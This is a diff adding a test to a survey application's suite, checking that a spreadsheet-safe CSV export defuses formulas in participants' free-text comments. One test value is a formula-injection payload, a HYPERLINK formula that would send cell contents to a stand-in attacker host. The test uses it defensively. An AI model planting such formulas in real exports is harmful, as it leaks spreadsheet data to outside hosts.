@@ -203,3 +203,33 @@ def test_closed_and_full_studies_refuse_new_participants_politely(study_db, monk
     with make_session() as s:
         assert s.scalar(select(func.count()).select_from(Participant)) == 2
         assert s.scalar(select(func.count()).select_from(GridCondition)) > 0
+
+
+def test_spreadsheet_safe_export_defuses_formulas_in_free_text(study_db, tmp_path):
+    import pandas as pd
+
+    from survey.export import export
+
+    _, make_session, _ = study_db
+    study = service.current_study(make_session)
+    rng = np.random.default_rng(0)
+    token = service.start_participant(make_session, study.id, {}, rng)
+    service.finish_instructions(make_session, token)
+    while (st := service.participant_state(make_session, token)).stage == "trial":
+        t = st.trial
+        if t.protocol == "rating":
+            service.submit_rating(make_session, token, t.trial_id, 4)
+        elif t.protocol == "pairwise":
+            service.submit_pairwise(make_session, token, t.trial_id, "tie")
+        else:
+            service.submit_ranking(make_session, token, t.trial_id, 0, 1)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    service.submit_questions(make_session, token, {}, formula)
+    export(make_session, study.id, tmp_path / "plain")
+    export(make_session, study.id, tmp_path / "safe", for_spreadsheets=True)
+    plain = pd.read_csv(tmp_path / "plain" / "participants.csv")
+    safe = pd.read_csv(tmp_path / "safe" / "participants.csv")
+    assert plain["comment"].tolist() == [formula]  # verbatim by default, for R and pandas
+    assert safe["comment"].tolist() == ["'" + formula]
+    judgements = pd.read_csv(tmp_path / "safe" / "judgements.csv")
+    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in judgements.astype(str).stack())
